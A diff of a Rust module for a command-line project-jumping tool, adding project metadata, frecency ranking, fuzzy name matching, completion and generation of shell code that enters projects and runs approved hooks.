@@ -1,33 +1,295 @@
 use crate::{
+    config::{self, Config, Verbosity},
+    env::{self, EnvBackup},
+    hook::{self, ProjectHook},
+    matching,
     messages::Message,
     project::{Project, ProjectName},
+    shell,
+    trust::{self, Approval, Trust},
 };
 use anyhow::{anyhow, Error};
 use indexmap::IndexMap;
 use owo_colors::OwoColorize;
 use serde::{Deserialize, Serialize};
 use std::{
+    fmt::{self, Display},
     fs::OpenOptions,
     io::{Read, Write},
-    path::PathBuf,
+    path::{Path, PathBuf},
     str::FromStr,
 };
 
+/// Environment variable holding the directory of the project the shell is in.
+pub const ACTIVE_PROJECT_VAR: &str = "KRABBY_PROJECT_DIR";
+
 #[derive(Debug, Eq, PartialEq, Serialize, Deserialize)]
 pub struct Database {
-    pub projects: IndexMap<ProjectName, PathBuf>,
+    #[serde(with = "entries")]
+    pub projects: IndexMap<ProjectName, ProjectEntry>,
+    /// Projects whose hooks the user approved, by project directory.
+    #[serde(default, skip_serializing_if = "IndexMap::is_empty")]
+    pub allowed: IndexMap<PathBuf, Approval>,
     #[serde(skip)]
     pub path: Option<PathBuf>,
+    /// Settings of the user, for the hooks that run on every project.
+    #[serde(skip)]
+    pub config: Config,
+}
+
+/// A registered project, along with what the user wants to remember about it.
+/// Timestamps are in seconds since the Unix epoch.
+#[derive(Debug, Default, Clone, Eq, PartialEq, Serialize, Deserialize)]
+pub struct ProjectEntry {
+    pub path: PathBuf,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub description: Option<String>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tags: Vec<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub repository: Option<String>,
+    /// Other names the project can be reached under.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub aliases: Vec<ProjectName>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub created_at: Option<u64>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub last_visited: Option<u64>,
+    #[serde(default, skip_serializing_if = "is_zero")]
+    pub visits: u64,
+    /// Hash of the `on_first_enter` hook that last ran on this machine.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub first_entered: Option<String>,
+    /// Anything else the user sets with `kb project set`.
+    #[serde(default, skip_serializing_if = "IndexMap::is_empty")]
+    pub fields: IndexMap<String, String>,
+}
+
+impl ProjectEntry {
+    pub fn new(path: PathBuf) -> Self {
+        Self {
+            path,
+            ..Default::default()
+        }
+    }
+
+    /// Sets `key` to `value`, or unsets it when there is no value.
+    /// `tags` takes a comma separated list.
+    pub fn set(&mut self, key: &str, value: Option<String>) -> Result<(), Error> {
+        match key {
+            "description" => self.description = value,
+            "repository" => self.repository = value,
+            "tags" => {
+                self.tags = value
+                    .iter()
+                    .flat_map(|tags| tags.split(','))
+                    .map(|tag| tag.trim().to_string())
+                    .filter(|tag| !tag.is_empty())
+                    .collect()
+            }
+            "path" | "created_at" | "last_visited" | "first_entered" => {
+                return Err(anyhow!("{} is kept by krabby itself.", key.bold()))
+            }
+            "aliases" => {
+                return Err(anyhow!(
+                    "Aliases are set with {}.",
+                    "'kb project alias ALIAS PROJECT_NAME'".bold()
+                ))
+            }
+            _ => match value {
+                Some(value) => {
+                    self.fields.insert(key.to_string(), value);
+                }
+                None => {
+                    if self.fields.shift_remove(key).is_none() {
+                        return Err(anyhow!("{} was not set.", key.bold()));
+                    }
+                }
+            },
+        }
+        Ok(())
+    }
+
+    /// Ranks the project the way zoxide does: by how often it was visited,
+    /// weighted by how recently that last happened.
+    pub fn frecency(&self, now: u64) -> f64 {
+        let Some(last_visited) = self.last_visited else {
+            return 0.0;
+        };
+        let weight = match now.saturating_sub(last_visited) {
+            age if age < HOUR => 4.0,
+            age if age < DAY => 2.0,
+            age if age < WEEK => 0.5,
+            _ => 0.25,
+        };
+        self.visits as f64 * weight
+    }
+
+    /// Tells whether there is nothing but the path to the entry, as in older databases.
+    fn is_bare(&self) -> bool {
+        *self == Self::new(self.path.clone())
+    }
+}
+
+/// Projects are written as plain paths until they carry anything else,
+/// which also keeps databases from before project metadata readable.
+mod entries {
+    use super::ProjectEntry;
+    use crate::project::ProjectName;
+    use indexmap::IndexMap;
+    use serde::{Deserialize, Deserializer, Serialize, Serializer};
+    use std::path::PathBuf;
+
+    #[derive(Serialize, Deserialize)]
+    #[serde(untagged)]
+    enum StoredEntry {
+        Path(PathBuf),
+        Detailed(Box<ProjectEntry>),
+    }
+
+    pub fn serialize<S: Serializer>(
+        projects: &IndexMap<ProjectName, ProjectEntry>,
+        serializer: S,
+    ) -> Result<S::Ok, S::Error> {
+        serializer.collect_map(projects.iter().map(|(project_name, entry)| {
+            let stored = match entry.is_bare() {
+                true => StoredEntry::Path(entry.path.clone()),
+                false => StoredEntry::Detailed(Box::new(entry.clone())),
+            };
+            (project_name, stored)
+        }))
+    }
+
+    pub fn deserialize<'de, D: Deserializer<'de>>(
+        deserializer: D,
+    ) -> Result<IndexMap<ProjectName, ProjectEntry>, D::Error> {
+        let projects = IndexMap::<ProjectName, StoredEntry>::deserialize(deserializer)?;
+        Ok(projects
+            .into_iter()
+            .map(|(project_name, stored)| {
+                let entry = match stored {
+                    StoredEntry::Path(path) => ProjectEntry::new(path),
+                    StoredEntry::Detailed(entry) => *entry,
+                };
+                (project_name, entry)
+            })
+            .collect())
+    }
+}
+
+const HOUR: u64 = 60 * 60;
+const DAY: u64 = 24 * HOUR;
+const WEEK: u64 = 7 * DAY;
+
+fn is_zero(n: &u64) -> bool {
+    *n == 0
+}
+
+/// What a project name given by the user refers to.
+#[derive(Debug, PartialEq, Eq)]
+pub enum Resolution {
+    Found(ProjectName),
+    /// Several projects match just as well, from the highest frecency to the lowest.
+    Ambiguous(Vec<ProjectName>),
+    /// No project matches, but these are close.
+    NotFound(Vec<ProjectName>),
+}
+
+/// Where to end up inside a project: one of its places, a subdirectory,
+/// or a subdirectory of one of its places.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct Destination {
+    pub place: Option<String>,
+    pub subdirectory: Option<PathBuf>,
+}
+
+impl Destination {
+    /// Adds `within` to where to end up, as in `kb api web`.
+    /// It names a place when it starts with one of the `places` of the project
+    /// and nothing else was given, and a subdirectory otherwise.
+    pub fn push(&mut self, within: &str, places: &[String]) {
+        let (first, rest) = match within.split_once('/') {
+            Some((first, rest)) => (first, Some(rest)),
+            None => (within, None),
+        };
+        if self.place.is_none()
+            && self.subdirectory.is_none()
+            && places.iter().any(|place| place == first)
+        {
+            self.place = Some(first.to_string());
+            self.subdirectory = rest.filter(|rest| !rest.is_empty()).map(PathBuf::from);
+            return;
+        }
+        self.subdirectory = Some(match self.subdirectory.take() {
+            Some(subdirectory) => subdirectory.join(within),
+            None => PathBuf::from(within),
+        });
+    }
+}
+
+/// Splits what the user wants to jump to, like `api/src/handlers` or `api:web`,
+/// into the project and where to end up inside it.
+pub fn split_destination(destination: &str) -> (&str, Destination) {
+    let (target, subdirectory) = match destination.split_once('/') {
+        Some((target, subdirectory)) if !subdirectory.is_empty() => {
+            (target, Some(PathBuf::from(subdirectory)))
+        }
+        Some((target, _)) => (target, None),
+        None => (destination, None),
+    };
+    let (project_name, place) = match target.split_once(':') {
+        Some((project_name, place)) => (project_name, Some(place.to_string())),
+        None => (target, None),
+    };
+    (
+        project_name,
+        Destination {
+            place,
+            subdirectory,
+        },
+    )
+}
+
+/// The directory `subdirectory` names inside the project at `project_path`.
+/// It must exist and stay inside the project.
+fn project_subdirectory(project_path: &Path, subdirectory: &Path) -> Result<PathBuf, Error> {
+    let destination = project_path.join(subdirectory);
+    let project_path = std::fs::canonicalize(project_path)?;
+    match std::fs::canonicalize(&destination) {
+        Ok(destination) if destination.is_dir() && destination.starts_with(&project_path) => {
+            Ok(destination)
+        }
+        _ => Err(anyhow!(
+            "{} {} inside {}.",
+            subdirectory.to_string_lossy().bold(),
+            "is not a directory".red().bold(),
+            project_path.to_string_lossy().bold()
+        )),
+    }
+}
+
+/// Seconds since the Unix epoch.
+pub fn now() -> u64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|elapsed| elapsed.as_secs())
+        .unwrap_or_default()
 }
 
 impl Database {
     pub fn new(path: Option<PathBuf>) -> Self {
         Self {
             projects: IndexMap::new(),
+            allowed: IndexMap::new(),
             path,
+            config: Config::default(),
         }
     }
 
+    pub fn set_config(&mut self, config: Config) {
+        self.config = config;
+    }
+
     pub fn list_projects(&self) -> Vec<ProjectName> {
         self.projects
             .iter()
@@ -36,6 +298,15 @@ impl Database {
     }
 
     pub fn remove_project(&mut self, project_name: ProjectName) -> Result<(), Error> {
+        if let Some(owner) = self.alias_owner(&project_name) {
+            return Err(anyhow!(
+                "{} is an alias of {}. Remove it with {} instead.",
+                project_name.bold(),
+                owner.bold(),
+                "'kb project unalias'".bold()
+            ));
+        }
+        // Its aliases go away along with the entry.
         match self.projects.shift_remove(&project_name) {
             Some(_p) => Ok(()),
             None => Err(anyhow!(
@@ -48,72 +319,809 @@ impl Database {
     pub fn add_project(&mut self, project_name: ProjectName, path: PathBuf) -> Result<(), Error> {
         // If we don't canonicalize, the path will be useless when we try to `cd` into it.
         let path = std::fs::canonicalize(path).expect("Failed to canonicalize path");
-        if let Some(p) = self.projects.get(&project_name) {
+        if let Some(entry) = self.get_project(&project_name) {
             return Err(anyhow!(
                 "{} is registered already at {}.",
                 project_name,
-                p.to_str().unwrap().bold()
+                entry.path.to_str().unwrap().bold()
             ));
         }
-        for (project_name, project_path) in self.projects.iter() {
-            if project_path == &path {
+        self.check_path(&path, None)?;
+        let entry = ProjectEntry {
+            created_at: Some(now()),
+            ..ProjectEntry::new(path)
+        };
+        self.projects.insert(project_name, entry);
+        Ok(())
+    }
+
+    /// Fails when a project other than `except` is registered at `path` already.
+    fn check_path(&self, path: &Path, except: Option<&ProjectName>) -> Result<(), Error> {
+        for (project_name, entry) in self.projects.iter() {
+            if entry.path == path && Some(project_name) != except {
                 return Err(anyhow!(
                     "The project at {} is already registered under the name {}.",
-                    project_path.to_str().unwrap().bold(),
+                    entry.path.to_str().unwrap().bold(),
                     project_name.bold()
                 ));
             }
         }
-        self.projects.insert(project_name, path);
         Ok(())
     }
 
+    /// Registers the project as `new_name` instead, keeping everything known about it.
+    /// Its project file follows when it was named after the project, and its hooks stay
+    /// allowed if they were. Returns whether the project file was updated.
+    pub fn rename_project(
+        &mut self,
+        project_name: &ProjectName,
+        new_name: ProjectName,
+    ) -> Result<bool, Error> {
+        let Some(project_name) = self.canonical_name(project_name) else {
+            return Err(anyhow!(
+                "{}",
+                Message::ProjectNotFound(
+                    project_name.to_string(),
+                    self.closest_projects(&project_name.to_string())
+                )
+            ));
+        };
+        // An alias of the project itself can become its name.
+        if self.alias_owner(&new_name) == Some(&project_name) {
+            self.unalias_project(&new_name)?;
+        }
+        if self.canonical_name(&new_name).is_some() {
+            return Err(anyhow!("{} is taken already.", new_name.bold()));
+        }
+        let (index, _, entry) = self.projects.shift_remove_full(&project_name).unwrap();
+        let project_path = entry.path.clone();
+        self.projects.insert(new_name.clone(), entry);
+        self.projects.move_index(self.projects.len() - 1, index);
+
+        let mut project = match Project::from_file(project_path.join("krabby.toml")) {
+            Ok(project) if project.name == project_name => project,
+            _ => return Ok(false),
+        };
+        let allowed = self.allowed.contains_key(&project_path)
+            && matches!(self.trust(&project_path, &project), Ok(Trust::Allowed));
+        project.name = new_name;
+        project.write()?;
+        if allowed {
+            self.allow_project(project_path, &project)?;
+        }
+        Ok(true)
+    }
+
+    /// Registers the project at `path` instead, which must not belong to another project.
+    /// With `move_directory`, the project directory is moved there first.
+    /// The approval of its hooks follows it. Returns where the project is now.
+    pub fn move_project(
+        &mut self,
+        project_name: &ProjectName,
+        path: PathBuf,
+        move_directory: bool,
+    ) -> Result<PathBuf, Error> {
+        let Some(project_name) = self.canonical_name(project_name) else {
+            return Err(anyhow!(
+                "{}",
+                Message::ProjectNotFound(
+                    project_name.to_string(),
+                    self.closest_projects(&project_name.to_string())
+                )
+            ));
+        };
+        let old_path = self.projects[&project_name].path.clone();
+        let path = std::env::current_dir()?.join(path);
+        // There is nothing to canonicalize before the directory is moved, but its parent.
+        let new_path = match move_directory {
+            true => {
+                if path.exists() {
+                    return Err(anyhow!("{} exists already.", path.to_string_lossy().bold()));
+                }
+                let (Some(parent), Some(file_name)) = (path.parent(), path.file_name()) else {
+                    return Err(anyhow!(
+                        "{} is not a valid destination.",
+                        path.to_string_lossy().bold()
+                    ));
+                };
+                std::fs::canonicalize(parent)?.join(file_name)
+            }
+            false => std::fs::canonicalize(&path)
+                .map_err(|e| anyhow!("Failed to find {}.\n{}", path.to_string_lossy().bold(), e))?,
+        };
+        self.check_path(&new_path, Some(&project_name))?;
+        if move_directory {
+            std::fs::rename(&old_path, &new_path).map_err(|e| {
+                anyhow!(
+                    "Failed to move {} to {}.\n{}",
+                    old_path.to_string_lossy().bold(),
+                    new_path.to_string_lossy().bold(),
+                    e
+                )
+            })?;
+        }
+        self.projects[&project_name].path = new_path.clone();
+        if let Some(approval) = self.allowed.shift_remove(&old_path) {
+            self.allowed.insert(new_path.clone(), approval);
+        }
+        Ok(new_path)
+    }
+
     pub fn get_project_path(&self, project_name: &ProjectName) -> Option<&PathBuf> {
-        self.projects.get(project_name)
+        self.get_project(project_name).map(|entry| &entry.path)
+    }
+
+    /// The project `alias` is an alias of, if it is one.
+    pub fn alias_owner(&self, alias: &ProjectName) -> Option<&ProjectName> {
+        self.projects
+            .iter()
+            .find(|(_, entry)| entry.aliases.contains(alias))
+            .map(|(project_name, _)| project_name)
+    }
+
+    /// The registered name of the project `project_name` refers to, following aliases.
+    pub fn canonical_name(&self, project_name: &ProjectName) -> Option<ProjectName> {
+        match self.projects.contains_key(project_name) {
+            true => Some(project_name.clone()),
+            false => self.alias_owner(project_name).cloned(),
+        }
+    }
+
+    /// Lets `project_name` be reached as `alias` too.
+    pub fn alias_project(
+        &mut self,
+        project_name: &ProjectName,
+        alias: ProjectName,
+    ) -> Result<(), Error> {
+        if self.projects.contains_key(&alias) {
+            return Err(anyhow!("{} is a project already.", alias.bold()));
+        }
+        if let Some(owner) = self.alias_owner(&alias) {
+            return Err(anyhow!(
+                "{} is an alias of {} already.",
+                alias.bold(),
+                owner.bold()
+            ));
+        }
+        let closest_projects = self.closest_projects(&project_name.to_string());
+        match self.projects.get_mut(project_name) {
+            Some(entry) => {
+                entry.aliases.push(alias);
+                Ok(())
+            }
+            None => Err(anyhow!(
+                "{}",
+                Message::ProjectNotFound(project_name.to_string(), closest_projects)
+            )),
+        }
+    }
+
+    /// Removes `alias`, returning the project it was an alias of.
+    pub fn unalias_project(&mut self, alias: &ProjectName) -> Result<ProjectName, Error> {
+        for (project_name, entry) in self.projects.iter_mut() {
+            if let Some(index) = entry.aliases.iter().position(|a| a == alias) {
+                entry.aliases.remove(index);
+                return Ok(project_name.clone());
+            }
+        }
+        Err(anyhow!("There was no alias {}.", alias.bold()))
+    }
+
+    /// Sets `key` on the entry of `project_name`, as `ProjectEntry::set` does.
+    pub fn set_project_field(
+        &mut self,
+        project_name: &ProjectName,
+        key: &str,
+        value: Option<String>,
+    ) -> Result<(), Error> {
+        let project_name = self
+            .canonical_name(project_name)
+            .unwrap_or_else(|| project_name.clone());
+        match self.projects.get_mut(&project_name) {
+            Some(entry) => entry.set(key, value),
+            None => Err(anyhow!(
+                "{}",
+                Message::ProjectNotFound(
+                    project_name.to_string(),
+                    self.closest_projects(&project_name.to_string())
+                )
+            )),
+        }
+    }
+
+    fn visit(&mut self, project_name: &ProjectName) {
+        if let Some(entry) = self.projects.get_mut(project_name) {
+            entry.last_visited = Some(now());
+            entry.visits += 1;
+        }
+    }
+
+    /// Adds `visits` counted elsewhere, like by another tool, as if the last one just happened.
+    pub fn record_visits(&mut self, project_name: &ProjectName, visits: u64) {
+        if let Some(entry) = self.projects.get_mut(project_name) {
+            entry.last_visited = Some(now());
+            entry.visits += visits;
+        }
+    }
+
+    /// Projects from the highest frecency to the lowest, as of `now`.
+    /// Projects that rank the same keep the order they were registered in.
+    pub fn ranked_projects(&self, now: u64) -> Vec<(&ProjectName, &ProjectEntry)> {
+        let mut projects: Vec<(&ProjectName, &ProjectEntry)> = self.projects.iter().collect();
+        projects.sort_by(|(_, a), (_, b)| b.frecency(now).total_cmp(&a.frecency(now)));
+        projects
+    }
+
+    /// Finds the project `query` refers to. A project named exactly like it wins,
+    /// then projects whose name starts with it, contains it and, at last, has its
+    /// characters in the same order. Aliases count as names of their project.
+    /// When several projects match at the same step,
+    /// the one with the highest frecency wins, unless there is a tie.
+    pub fn resolve_project(&self, query: &str) -> Resolution {
+        // The query may not even be a valid name, so it is compared as it is.
+        if let Some((project_name, _)) = self.projects.iter().find(|(project_name, entry)| {
+            std::iter::once(*project_name)
+                .chain(&entry.aliases)
+                .any(|name| name.to_string() == query)
+        }) {
+            return Resolution::Found(project_name.clone());
+        }
+        let now = now();
+        let query = query.to_lowercase();
+        let ranked = self.ranked_projects(now);
+        let matchers: [&dyn Fn(&str) -> bool; 3] = [
+            &|name| name.starts_with(&query),
+            &|name| name.contains(&query),
+            &|name| matching::is_subsequence(&query, name),
+        ];
+        for matches in matchers {
+            let candidates: Vec<&(&ProjectName, &ProjectEntry)> = ranked
+                .iter()
+                .filter(|(project_name, entry)| {
+                    std::iter::once(*project_name)
+                        .chain(&entry.aliases)
+                        .any(|name| matches(&name.to_string().to_lowercase()))
+                })
+                .collect();
+            match candidates.as_slice() {
+                [] => continue,
+                [(project_name, _)] => return Resolution::Found((*project_name).clone()),
+                [(project_name, first), (_, second), ..]
+                    if first.frecency(now) > second.frecency(now) =>
+                {
+                    return Resolution::Found((*project_name).clone())
+                }
+                _ => {
+                    return Resolution::Ambiguous(
+                        candidates
+                            .iter()
+                            .map(|(project_name, _)| (*project_name).clone())
+                            .collect(),
+                    )
+                }
+            }
+        }
+        Resolution::NotFound(self.closest_projects(&query))
+    }
+
+    /// Registered names close to `query`, for when it does not match any.
+    pub fn closest_projects(&self, query: &str) -> Vec<ProjectName> {
+        let names: Vec<String> = self.projects.keys().map(ProjectName::to_string).collect();
+        // Names are looked up rather than parsed again, as older ones may not be valid anymore.
+        matching::closest(query, names.iter().map(String::as_str))
+            .into_iter()
+            .filter_map(|name| {
+                self.projects
+                    .keys()
+                    .find(|project_name| project_name.to_string() == name)
+                    .cloned()
+            })
+            .collect()
     }
 
-    // Return Ok((cd_command, Some(hook_command))) in case of success
+    // Return Ok(shell_code) in case of success
+    // `destination` is where to end up inside the project, after its hooks ran from its root.
+    // `active_project` is the directory of the project the shell is leaving, if any.
     pub fn go_to_project(
-        &self,
+        &mut self,
         project_name: &ProjectName,
-    ) -> Result<(String, Option<String>), Error> {
-        match self.projects.get(project_name) {
+        destination: &Destination,
+        active_project: Option<&Path>,
+    ) -> Result<String, Error> {
+        let project_name = &self
+            .canonical_name(project_name)
+            .unwrap_or_else(|| project_name.clone());
+        match self.get_project_path(project_name).cloned() {
             Some(project_path) => {
                 if !project_path.is_dir() {
                     return Err(anyhow!("I dont know how to tell you this, but there was a problem with the registry.\nApparently {} directory {} or {}.", project_path.to_string_lossy().bold(), "is missing".red().bold(), "is not a directory".red().bold()));
                 }
-                println!("echo \"Krabby is taking you to {}!\";", project_name.bold());
-                let s = project_path.to_string_lossy();
-                let cd_cmd = format!("cd {}", s);
-                println!("{}", cd_cmd);
+                let place_path = match &destination.place {
+                    Some(place) => Some(self.place_path(project_name, place)?),
+                    None => None,
+                };
+                let destination_path = match (place_path, &destination.subdirectory) {
+                    (None, None) => None,
+                    (place_path, subdirectory) => Some(project_subdirectory(
+                        &project_path,
+                        &place_path
+                            .unwrap_or_default()
+                            .join(subdirectory.as_deref().unwrap_or(Path::new(""))),
+                    )?),
+                };
+                let mut cmd = String::new();
+                let mut leaving = false;
+                let reentering = active_project == Some(project_path.as_path());
+                if let Some(active_project) = active_project {
+                    if !reentering {
+                        cmd.push_str(&self.leave_project(active_project));
+                        leaving = true;
+                    }
+                }
+                cmd.push_str(&self.say(
+                    &format!("Krabby is taking you to {}!", project_name.bold()),
+                    Verbosity::Normal,
+                ));
+                let (project, warning) =
+                    self.trusted(&project_path, self.get_project_file(project_name));
+                cmd.push_str(&warning);
+                // The shell already has the variables of the project, so a new backup
+                // would only save them in place of what they replaced.
+                if !reentering {
+                    cmd.push_str(&self.activate(&project_path, project.as_ref(), leaving));
+                }
+                // Only jumps that go through count towards the frecency of the project.
+                self.visit(project_name);
+                cmd.push_str(&format!(
+                    "cd {}\n",
+                    shell::quote(&project_path.to_string_lossy())
+                ));
+                if destination_path.is_some() {
+                    cmd.push_str("__kb_oldpwd=$OLDPWD\n");
+                }
+                cmd.push_str(&self.user_hook(
+                    "before_enter",
+                    &self.config.hooks.before_enter,
+                    project_name,
+                    &project_path,
+                ));
+                if let Some(project) = &project {
+                    cmd.push_str(&self.first_enter(project_name, project));
+                }
                 // Checks for `krabby.toml` project file to see if there are any hooks to run
-                if let Some(hook_cmd) = self.get_project_hook_cmd(project_name) {
-                    println!("echo \"Running hook:\n{}\"", hook_cmd.bold());
-                    println!("{}", hook_cmd);
-                    return Ok((cd_cmd, Some(hook_cmd)));
+                // The hook of a place runs from the place, once the shell is there.
+                let place_hook_cmd = match (&project, &destination.place) {
+                    (Some(project), Some(place)) => project
+                        .get_place_hook_cmd(place)
+                        .ok()
+                        .flatten()
+                        .map(|place_hook_cmd| {
+                            let steps = project
+                                .get_place(place)
+                                .map(|place| describe(place.hook()))
+                                .unwrap_or_default();
+                            (place, steps, place_hook_cmd)
+                        }),
+                    _ => None,
+                };
+                if let Some(project) = &project {
+                    if let Ok(Some(hook_cmd)) = project.get_hook_cmd() {
+                        cmd.push_str(&self.run_hook(
+                            &format!("Running hook:\n{}", describe(project.hook()).bold()),
+                            &hook_cmd,
+                        ));
+                    }
+                }
+                cmd.push_str(&self.user_hook(
+                    "after_enter",
+                    &self.config.hooks.after_enter,
+                    project_name,
+                    &project_path,
+                ));
+                // `cd -` takes the user back to where they jumped from, not to the project root.
+                if let Some(destination_path) = destination_path {
+                    cmd.push_str(&format!(
+                        "cd {}\nOLDPWD=$__kb_oldpwd\nunset __kb_oldpwd\n",
+                        shell::quote(&destination_path.to_string_lossy())
+                    ));
                 }
-                Ok((cd_cmd, None))
+                if let Some((place, steps, place_hook_cmd)) = place_hook_cmd {
+                    cmd.push_str(&self.run_hook(
+                        &format!("Running hook of {}:\n{}", place.bold(), steps.bold()),
+                        &place_hook_cmd,
+                    ));
+                }
+                Ok(cmd)
             }
             None => Err(anyhow!(
                 "{}",
-                Message::ProjectNotFound(project_name.clone())
+                Message::ProjectNotFound(
+                    project_name.to_string(),
+                    self.closest_projects(&project_name.to_string())
+                )
             )),
         }
     }
 
-    pub fn get_project_hook_cmd(&self, project_name: &ProjectName) -> Option<String> {
-        if let Ok(project) = self.get_project_file(project_name) {
-            return project.get_hook_cmd();
+    /// Names of the places the project file of `project_name` declares.
+    pub fn places(&self, project_name: &ProjectName) -> Vec<String> {
+        self.get_project_file(project_name)
+            .map(|project| project.places.keys().cloned().collect())
+            .unwrap_or_default()
+    }
+
+    /// The path of `place`, relative to the project. Places are only directories,
+    /// so they are reachable whether the hooks of the project were allowed or not.
+    fn place_path(&self, project_name: &ProjectName, place: &str) -> Result<PathBuf, Error> {
+        let has_project_file = self
+            .get_project_path(project_name)
+            .is_some_and(|path| path.join("krabby.toml").is_file());
+        if !has_project_file {
+            return Err(anyhow!(
+                "{} has no places, as it has no krabby.toml.",
+                project_name.bold()
+            ));
+        }
+        let project = self.get_project_file(project_name)?;
+        match project.get_place(place) {
+            Some(place) => Ok(place.path().clone()),
+            None => {
+                let places: Vec<&str> = project.places.keys().map(String::as_str).collect();
+                Err(anyhow!(
+                    "{} has no place named {}.{}",
+                    project_name.bold(),
+                    place.bold(),
+                    match places.is_empty() {
+                        true => String::new(),
+                        false => format!(" Its places are {}.", places.join(", ").bold()),
+                    }
+                ))
+            }
+        }
+    }
+
+    /// What the shell may complete `word` to when jumping: the names of projects
+    /// or, once `word` has a `/`, the directories inside the project it names.
+    pub fn complete(&self, word: &str) -> Vec<String> {
+        let Some((name, subdirectory)) = word.split_once('/') else {
+            return self
+                .projects
+                .iter()
+                .flat_map(|(project_name, entry)| {
+                    std::iter::once(project_name).chain(&entry.aliases)
+                })
+                .map(ProjectName::to_string)
+                .filter(|project_name| project_name.starts_with(word))
+                .map(|project_name| format!("{}/", project_name))
+                .collect();
+        };
+        let Some(project_path) = self
+            .projects
+            .iter()
+            .find(|(project_name, entry)| {
+                std::iter::once(*project_name)
+                    .chain(&entry.aliases)
+                    .any(|project_name| project_name.to_string() == name)
+            })
+            .map(|(_, entry)| &entry.path)
+        else {
+            return vec![];
+        };
+        let (parent, partial) = subdirectory.rsplit_once('/').unwrap_or(("", subdirectory));
+        let Ok(children) = std::fs::read_dir(project_path.join(parent)) else {
+            return vec![];
+        };
+        let prefix = match parent {
+            "" => format!("{}/", name),
+            parent => format!("{}/{}/", name, parent),
+        };
+        let mut completions: Vec<String> = children
+            .filter_map(|child| child.ok())
+            .filter(|child| child.path().is_dir())
+            .map(|child| child.file_name().to_string_lossy().to_string())
+            // Hidden directories only show up when asked for.
+            .filter(|child| {
+                child.starts_with(partial) && (partial.starts_with('.') || !child.starts_with('.'))
+            })
+            .map(|child| format!("{}{}/", prefix, child))
+            .collect();
+        completions.sort();
+        completions
+    }
+
+    /// Finds the registered project `dir` belongs to, preferring the innermost one.
+    pub fn find_project_by_path(&self, dir: &Path) -> Option<(&ProjectName, &PathBuf)> {
+        self.projects
+            .iter()
+            .map(|(project_name, entry)| (project_name, &entry.path))
+            .filter(|(_, project_path)| dir.starts_with(project_path))
+            .max_by_key(|(_, project_path)| project_path.components().count())
+    }
+
+    /// Builds the shell code to evaluate after the shell moved to `cwd` by itself.
+    /// Leaves `active_project` if `cwd` is out of it and enters the project `cwd` belongs to,
+    /// so each hook runs once per visit.
+    pub fn change_directory(&mut self, cwd: &Path, active_project: Option<&Path>) -> String {
+        let current_project = self
+            .find_project_by_path(cwd)
+            .map(|(project_name, project_path)| (project_name.clone(), project_path.clone()));
+        let mut cmd = String::new();
+        let mut leaving = false;
+        if let Some(active_project) = active_project {
+            if current_project
+                .as_ref()
+                .is_none_or(|(_, project_path)| project_path != active_project)
+            {
+                cmd.push_str(&self.leave_project(active_project));
+                leaving = true;
+            }
+        }
+        if let Some((project_name, project_path)) = current_project {
+            if active_project != Some(project_path.as_path()) {
+                cmd.push_str(&self.enter_project(&project_name, &project_path, cwd, leaving));
+            }
         }
-        None
+        cmd
     }
 
-    pub fn get_project(&self, project_name: &ProjectName) -> Option<&PathBuf> {
-        self.projects.get(project_name)
+    /// Builds the shell code entering the project at `project_path` from `cwd`, inside of it.
+    /// Hooks run from the project root, as they do when jumping, and the shell goes back afterwards.
+    fn enter_project(
+        &mut self,
+        project_name: &ProjectName,
+        project_path: &Path,
+        cwd: &Path,
+        leaving: bool,
+    ) -> String {
+        self.visit(project_name);
+        let (project, mut cmd) = self.trusted(project_path, self.get_project_file(project_name));
+        cmd.push_str(&self.activate(project_path, project.as_ref(), leaving));
+        let mut hooks = self.user_hook(
+            "before_enter",
+            &self.config.hooks.before_enter,
+            project_name,
+            project_path,
+        );
+        if let Some(project) = &project {
+            hooks.push_str(&self.first_enter(project_name, project));
+        }
+        if let Some(project) = &project {
+            if let Ok(Some(hook_cmd)) = project.get_hook_cmd() {
+                hooks.push_str(&self.run_hook(
+                    &format!(
+                        "Entering {}, running hook:\n{}",
+                        project_name.bold(),
+                        describe(project.hook()).bold()
+                    ),
+                    &hook_cmd,
+                ));
+            }
+        }
+        hooks.push_str(&self.user_hook(
+            "after_enter",
+            &self.config.hooks.after_enter,
+            project_name,
+            project_path,
+        ));
+        if hooks.is_empty() || cwd == project_path {
+            cmd.push_str(&hooks);
+            return cmd;
+        }
+        // Going back to `$PWD` keeps the path the user came in through, symlinks and all,
+        // and `cd -` still takes them back to where they were before.
+        cmd.push_str(&format!(
+            "__kb_pwd=$PWD\n__kb_oldpwd=$OLDPWD\ncd {}\n{}cd \"$__kb_pwd\"\nOLDPWD=$__kb_oldpwd\nunset __kb_pwd __kb_oldpwd\n",
+            shell::quote(&project_path.to_string_lossy()),
+            hooks
+        ));
+        cmd
+    }
+
+    /// Shell code telling the user `message`, if they want to hear at least this much.
+    fn say(&self, message: &str, verbosity: Verbosity) -> String {
+        match self.config.verbosity >= verbosity {
+            true => shell::echo(message),
+            false => String::new(),
+        }
+    }
+
+    /// Builds the shell code announcing and running the hook of a project,
+    /// hiding its output unless it fails if the user asked for it.
+    fn run_hook(&self, announcement: &str, hook_cmd: &str) -> String {
+        let hook_cmd = match self.config.quiet_hooks {
+            true => hook::silence(hook_cmd),
+            false => hook_cmd.to_string(),
+        };
+        format!(
+            "{}{}\n",
+            self.say(announcement, Verbosity::Normal),
+            hook_cmd
+        )
+    }
+
+    /// Builds the shell code for one of the hooks from the user config, filled for the project.
+    fn user_hook(
+        &self,
+        hook: &str,
+        template: &Option<String>,
+        project_name: &ProjectName,
+        project_path: &Path,
+    ) -> String {
+        let Some(template) = template else {
+            return String::new();
+        };
+        let user_cmd = config::expand(template, project_name, project_path);
+        format!(
+            "{}{}\n",
+            self.say(
+                &format!("Running {} hook:\n{}", hook, user_cmd.bold()),
+                Verbosity::Verbose
+            ),
+            user_cmd
+        )
+    }
+
+    /// Builds the shell code marking the shell as being inside the project at `project_path`
+    /// and exporting its variables.
+    fn activate(&self, project_path: &Path, project: Option<&Project>, leaving: bool) -> String {
+        let mut cmd = activate_project(project_path, project, leaving);
